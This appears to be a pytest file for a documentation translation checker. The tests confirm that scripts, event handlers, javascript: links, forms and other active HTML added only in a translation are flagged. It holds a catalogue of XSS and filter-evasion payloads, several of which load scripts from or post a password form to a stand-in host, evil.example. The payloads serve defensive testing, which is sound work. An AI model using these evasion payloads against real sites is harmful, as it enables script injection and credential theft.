"""A translation makes browsers do nothing that its source does not."""

from __future__ import annotations

import json

import pytest

from tests.conftest import Repository
from tests.rules.conftest import Check

EVIL = "https://evil.example/x"
LINK = '<a href="https://example.com/a">the guide</a>'

# What a translation may bring along, by what it does.
ACTIONS = {
    "a script from elsewhere": f'<script src="{EVIL}"></script>',
    "a script in the page": "<script>location = 1</script>",
    "a script in a block that ends it with upper case": "<SCRIPT>\nlocation = 1\n</SCRIPT >",
    "an event handler of a link": '<a href="https://example.com/a" onclick="go()">x</a>',
    "an event handler in upper case": "<b OnClick=go()>x</b>",
    "an event handler of a word in brackets": "<your-name onclick=go()>",
    "an event handler behind a slash, in a block": "<div>\n<p/onclick=go()>x</p>\n</div>",
    "an event handler behind a quote, in a block": '<p title="a"onclick="go()">x</p>',
    "an event handler on a line of its own": '<b\n  onmouseover="go()">x</b>',
    "an event handler of a picture that is not there": '<img src="x.png" onerror="go()">',
    "a form": f'<form action="{EVIL}"><input name="password"></form>',
    "a button": "<button>OK</button>",
    "a button that sends a form elsewhere": f'<input type="submit" formaction="{EVIL}">',
    "an area of an image map": f'<map name="m"><area href="{EVIL}"></map>',
    "another base for all links": f'<base href="{EVIL}">',
    "a style sheet": f'<link rel="stylesheet" href="{EVIL}">',
    "a style": "<style>p { display: none }</style>",
    "a style that imports another": f'<p style="@import url({EVIL})">x</p>',
    "a picture in a style": f'<p style="background: url({EVIL})">x</p>',
    "a picture in a style with escapes": f'<p style="background: \\75 rl({EVIL})">x</p>',
    "another page after a while": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "a frame": f'<iframe src="{EVIL}"></iframe>',
    "a frame with a text of its own": '<iframe srcdoc="&lt;script>go()&lt;/script>"></iframe>',
    "an object": f'<object data="{EVIL}"></object>',
    "an embedded object": f'<embed src="{EVIL}">',
    "an applet": f'<applet codebase="{EVIL}"></applet>',
    "a picture of another size": f'<img src="x.png" srcset="x.png 1x, {EVIL} 2x">',
    "a picture of another kind": f'<picture><source srcset="{EVIL}"></picture>',
    "a picture of a film": f'<video poster="{EVIL}"></video>',
    "a film": f'<video src="{EVIL}"></video>',
    "a sound": f'<audio src="{EVIL}"></audio>',
    "subtitles": f'<track src="{EVIL}">',
    "a picture behind a table": f'<table background="{EVIL}"></table>',
    "a picture that counts its readers": f'<img src="{EVIL}" width="1" height="1">',
    "the same by its old name": f'<image src="{EVIL}">',
    "a link that tells another server": f'<a href="https://example.com/a" ping="{EVIL}">x</a>',
    "a link in SVG": f'<svg><a xlink:href="{EVIL}">x</a></svg>',
    "something used in SVG": f'<svg><use xlink:href="{EVIL}#x"/></svg>',
    "an animation of a link in SVG": "<svg><set attributeName=href to=javascript:go()></svg>",
    "another language in SVG": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "a script in SVG": "<svg><script>go()</script></svg>",
    "a formula with a link": f'<math href="{EVIL}">x</math>',
    "a link that runs a script": '<a href="javascript:go()">x</a>',
    "the same with a reference": '<a href="&#106;avascript:go()">x</a>',
    "the same with a reference that is not ended": '<a href="&#106avascript:go()">x</a>',
    "the same with a line break in it": '<a href="java\nscript:go()">x</a>',
    "the same with a tab as a reference": '<a href="java&Tab;script:go()">x</a>',
    "the same behind a control character": '<a href="&#1;javascript:go()">x</a>',
    "a link that runs a script of another kind": '<a href="VBScript:go()">x</a>',
    "a link that is a page": '<a href="data:text/html,x">x</a>',
    "a link in Markdown that runs a script": "[x](javascript:go())",
    "the same in upper case": "[x](JaVaScRiPt:go())",
    "the same in brackets": "<javascript:go()>",
    "the same by reference": "[x][y]\n\n[y]: javascript:go()",
    "a link in Markdown that is a page": "[x](data:text/html,x)",
    "what hides the rest of the page": "<plaintext>",
    "a title, which hides the rest up to its end": "<title>",
    "a comment that browsers end at once": f'<!--> <script src="{EVIL}"></script> -->',
    "a comment that browsers end soon": f'<!---> <script src="{EVIL}"></script> -->',
    "a comment that browsers end early": f'<!-- --!> <script src="{EVIL}"></script> -->',
    "a comment to transync that browsers end early": (
        f'<!-- transync: ignore anchor --!> <script src="{EVIL}"></script> -->'
    ),
    "what browsers take for a comment: a declaration": f'<!x > <script src="{EVIL}"></script>',
    "what browsers take for a comment: an instruction": f'<? > <script src="{EVIL}"></script> ?>',
    "what browsers take for a comment: CDATA": f'<![CDATA[ > <script src="{EVIL}"></script> ]]>',
    "what ends elsewhere in SVG": "<div>\n<![CDATA[><b title=']]><script>go()</script>'>\n</div>",
    "a style that holds the beginning of a comment": (
        f'<style><!--</style><script src="{EVIL}"></script>-->'
    ),
    "a tag in a block that does not end": '<div>\n<img src="x.png" title="',
    "a tag that was forgotten to end, with another in it": (
        f'<div>\n<b <img onerror="go()" src="{EVIL}">'
    ),
    "a comment in a block that does not end": "<div>\n<!-- the rest of the page",
    "the second of two attributes of a name": f'<video src="{EVIL}" src="x.webm"></video>',
    "in a cell of a table": "| a | b |\n| - | - |\n| x | <b onclick=go()>y</b> |",
    "in an item of a list": "- <b onclick=go()>y</b>",
    "in a quote": "> <b onclick=go()>y</b>",
    "in a heading": "## <b onclick=go()>y</b>",
    "in a block of its own": "<div>\n<b onclick=go()>y</b>\n</div>",
}  # fmt: skip


SOURCE = f"# A\n\nRead {LINK} before you begin.\n\n"
TRANSLATION = f"# Ạ\n\nHãy đọc {LINK} trước khi bắt đầu.\n\n"


RULES = ("html", "image", "link-target")


def said(compare: Check, source: str, translation: str) -> list[tuple[str, str, int, int, str]]:
    found = compare(f"{SOURCE}{source}\n", f"{TRANSLATION}{translation}\n")
    keys = ("rule", "severity", "line", "column", "message")
    return [tuple(f[key] for key in keys) for f in found if f["rule"] in RULES and f["language"]]


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
def test_what_only_the_translation_does_is_an_error(compare: Check, action: str) -> None:
    assert "error" in [severity for _, severity, *_ in said(compare, "x", action)]


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
def test_what_both_do_is_no_finding(compare: Check, action: str) -> None:
    assert said(compare, action, action) == []


@pytest.mark.parametrize(
    ("source", "translation", "line", "column", "message"),
    [
        pytest.param(
            '<a href="https://e.com/">x</a>',
            '<a href="https://e.com/" onclick="go()">x</a>',
            5,
            1,
            "the HTML <a onclick> is not in the source: onclick='go()'",
            id="an attribute of a link, of which no other is compared",
        ),
        pytest.param(
            "<script>\nbake(1)\n</script>",
            "<script>\nbake(2)\n</script>",
            5,
            1,
            "the HTML <script> is not in the source",
            id="another text of a script in a block",
        ),
        pytest.param(
            "It <script>bake(1)</script> is warm.",
            "Nó <script>bake(2)</script> ấm.",
            5,
            4,
            "the HTML <script> is not in the source",
            id="another text of a script in a line",
        ),
        pytest.param(
            "<style>b{top:1px}</style>",
            "<style>b{top:-9px}</style>",
            5,
            1,
            "the HTML <style> is not in the source",
            id="another text of a style",
        ),
        pytest.param(
            '<iframe sandbox="allow-forms" src="https://e.com/"></iframe>',
            '<iframe src="https://e.com/"></iframe>',
            5,
            1,
            "the HTML <iframe src> is not in the source: src='https://e.com/'",
            id="a frame that may do more",
        ),
        pytest.param(
            '<div>\n<p title="a">b</p>',
            '<div>\n<p title="a>b</p>',
            6,
            1,
            "the HTML <p does not end",
            id="a quote that is not closed",
        ),
        pytest.param(
            '<img src="https://e.com/a.png" srcset="https://e.com/b.png 2x">',
            '<img src="https://e.com/a.png" srcset="https://evil.example/b.png 2x">',
            5,
            1,
            "the HTML <img srcset> is not in the source: srcset='https://evil.example/b.png 2x'",
            id="another address among some",
        ),
    ],
)
def test_it_is_told_where_it_stands(
    compare: Check, source: str, translation: str, line: int, column: int, message: str
) -> None:
    errors = [each for each in said(compare, source, translation) if each[1] == "error"]

    assert errors == [("html", "error", line, column, message)]


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        pytest.param(
            '<picture><source srcset="p/a.png 1x, p/b.png 2x"></picture>',
            '<picture><source srcset="../../../docs/p/a.png 1x,'
            '../../../docs/p/b.png 2x"></picture>',
            id="pictures at the place that they have from there",
        ),
        pytest.param(
            '<video poster="a.png" src="a.webm"></video>',
            '<video src="../../../docs/a.webm" poster="../../../docs/a.png"></video>',
            id="a film at the place that it has from there",
        ),
        pytest.param(
            '<iframe title="Bread" src="https://E.com:443/a?WT.mc_id=x"></iframe>',
            '<iframe title="Bánh mì" src="https://e.com/a"></iframe>',
            id="the same address in another spelling",
        ),
        pytest.param(
            "Hello <your first name>",
            "Xin chào <tên của bạn>",
            id="words in brackets",
        ),
        pytest.param(
            '[a](https://e.com/) and <a href="https://e.com/b">b</a>',
            '<a href="https://e.com/" target="_blank" rel="nofollow" title="ấm">a</a> và '
            "[b](https://e.com/b)",
            id="a link in another form",
        ),
        pytest.param(
            '<button class="a">Bake</button>',
            '<button class="a b" title="ấm">Nướng</button>',
            id="looks of a button",
        ),
        pytest.param("<!-- bake it -->", "<!-- nướng <b>nó</b> -->", id="another comment"),
        pytest.param(
            "`<script>` and `<b onclick=go()>`",
            "`<script>` và `<b onclick=go()>`, `<form>`",
            id="code spans",
        ),
        pytest.param("a < b, <3", "a < b, <3 <- <", id="brackets in a text"),
    ],
)
def test_what_does_the_same_is_no_finding(compare: Check, source: str, translation: str) -> None:
    assert said(compare, source, translation) == []


def test_a_link_that_nobody_filled_in_leads_nowhere_else(compare: Check) -> None:
    found = said(compare, "See [a]().", f"Xem [a]({EVIL}).")

    assert found == [
        ("link-target", "error", 5, 5, f"the link without target has another target: {EVIL}")
    ]


def test_a_link_that_nobody_filled_in_may_lead_to_a_page(compare: Check) -> None:
    assert said(compare, "See [a]().", "Xem [a](a.md).") == []


def test_what_the_source_has_once_may_stand_in_another_place(compare: Check) -> None:
    source = '<b onclick="go()">a</b> and b.\n\nIt is warm.'
    translation = 'b và a.\n\n<b onclick="go()">Nó</b> ấm.'

    assert said(compare, source, translation) == []


@pytest.mark.parametrize("original_hash", ["0" * 32, "none"], ids=["stale", "without record"])
@pytest.mark.parametrize(
    ("action", "rule"),
    [
        ("<script>go()</script>", "html"),
        ("[x](javascript:go())", "link-target"),
        ("![x](data:image/svg+xml,x)", "image"),
        ("| a |\n| - |\n| [x](javascript:go()) |", "link-table"),
    ],
)
def test_that_nobody_knows_its_source_is_no_excuse(
    folder: Repository, action: str, rule: str, original_hash: str
) -> None:
    folder.write("a.md", f"{SOURCE}x\n")
    folder.translate("a.md", "vi", f"{TRANSLATION}{action}\n", original_hash=original_hash)

    found = [f for f in folder.check().findings if f["rule"] == rule]

    assert [(f["severity"], f["stale"]) for f in found] == [("error", False)]


def test_what_the_source_once_did_is_an_excuse(repository: Repository) -> None:
    repository.write("a.md", f"{SOURCE}<script>go()</script>\n")
    repository.translate("a.md", "vi", f"{TRANSLATION}<script>go()</script>\n")
    repository.commit()
    repository.write("a.md", f"{SOURCE}x\n")
    repository.commit("2026-01-02")

    found = [f for f in repository.check().findings if f["rule"] == "html"]

    assert [(f["severity"], f["stale"]) for f in found] == [("warning", True)]


def of_notebooks(folder: Repository, source: object, translation: object) -> list[str]:
    """The errors of HTML in a notebook whose one cell is this, and that."""
    for path, cell in {"a.ipynb": source, "translations/vi/a.ipynb": translation}.items():
        notebook = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}
        folder.write(path, json.dumps(notebook))
    folder.sidecar("vi", {"a.ipynb": folder.record("a.ipynb", "vi")})
    found = folder.check().findings
    return [f["message"] for f in found if f["rule"] == "html" and f["severity"] == "error"]


def test_cells_of_a_notebook_are_read_alike(folder: Repository) -> None:
    def cell(text: str) -> object:
        return {"cell_type": "markdown", "metadata": {}, "source": text}

    assert of_notebooks(
        folder, cell("# A\n\nIt is warm."), cell("# A\n\nNó <b onclick='go()'>ấm</b>.")
    ) == ["the HTML <b onclick> is not in the source: onclick='go()'"]


def test_raw_cells_are_read_alike(folder: Repository) -> None:
    def cell(text: str) -> object:
        return {"cell_type": "raw", "metadata": {}, "source": text}

    assert of_notebooks(folder, cell("<b>A</b>"), cell("<b onclick='go()'>A</b>")) == [
        "the HTML <b onclick> is not in the source: onclick='go()'"
    ]


def code_cell(kind: str, text: object) -> object:
    data = {"output_type": "display_data", "metadata": {}, "data": {kind: text}}
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": "a",
        "outputs": [data],
    }


@pytest.mark.parametrize(
    ("kind", "source", "translation", "message"),
    [
        (
            "text/html",
            "<b>A</b>",
            ["<b>A</b>", f"<script src='{EVIL}'></script>"],
            f"the HTML <script src> is not in the source: src='{EVIL}'",
        ),
        (
            "text/html",
            "<a href='https://example.com/'>A</a>",
            f"<a href='{EVIL}'>A</a>",
            f"the HTML <a href> is not in the source: href='{EVIL}'",
        ),
        (
            "image/svg+xml",
            "<svg><g/></svg>",
            "<svg><g onload='go()'/></svg>",
            "the HTML <g onload> is not in the source: onload='go()'",
        ),
        (
            "application/javascript",
            "bake(1)",
            "bake(2)",
            "the output application/javascript is not in the source",
        ),
        (
            "text/html",
            f"<i>{'a' * 300_000}</i>",
            f"<i>{'b' * 300_000}</i>",
            "the output text/html is not in the source",
        ),
    ],
)
def test_outputs_are_read_alike(
    folder: Repository, kind: str, source: object, translation: object, message: str
) -> None:
    found = of_notebooks(folder, code_cell(kind, source), code_cell(kind, translation))

    assert found == [message]


@pytest.mark.parametrize(
    ("kind", "source", "translation"),
    [
        ("text/html", "<style>b{top:1px}</style><b>1</b>", "<style>b{top:1px}</style><b>2</b>"),
        ("text/html", "<a href='a.md'>A</a>", "<a href='a.md'>B</a>"),
        ("text/html", "<i>A</i>", "<img src='data:image/png;base64,x'>"),
        ("text/plain", "<script>", "<form>"),
        ("image/png", "a", "b"),
    ],
)
def test_outputs_that_do_the_same_are_no_finding(
    folder: Repository, kind: str, source: object, translation: object
) -> None:
    assert of_notebooks(folder, code_cell(kind, source), code_cell(kind, translation)) == []


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("<b>hi</b>", []),
        (
            f"<img src=x onerror=go('{EVIL}')>",
            ["the output application/vnd.jupyter.widget-state+json is not in the source"],
        ),
    ],
)
def test_the_state_of_widgets_is_an_output(folder: Repository, value: str, said: list[str]) -> None:
    def notebook(shown: str) -> str:
        state = {"version_major": 2, "state": {"m": {"state": {"value": shown}}}}
        widgets = {"widgets": {"application/vnd.jupyter.widget-state+json": state}}
        return json.dumps({"cells": [], "metadata": widgets, "nbformat": 4, "nbformat_minor": 4})

    folder.write("a.ipynb", notebook("<b>hi</b>"))
    folder.write("translations/vi/a.ipynb", notebook(value))
    folder.sidecar("vi", {"a.ipynb": folder.record("a.ipynb", "vi")})

    findings = folder.check().findings
    assert [finding["message"] for finding in findings] == said
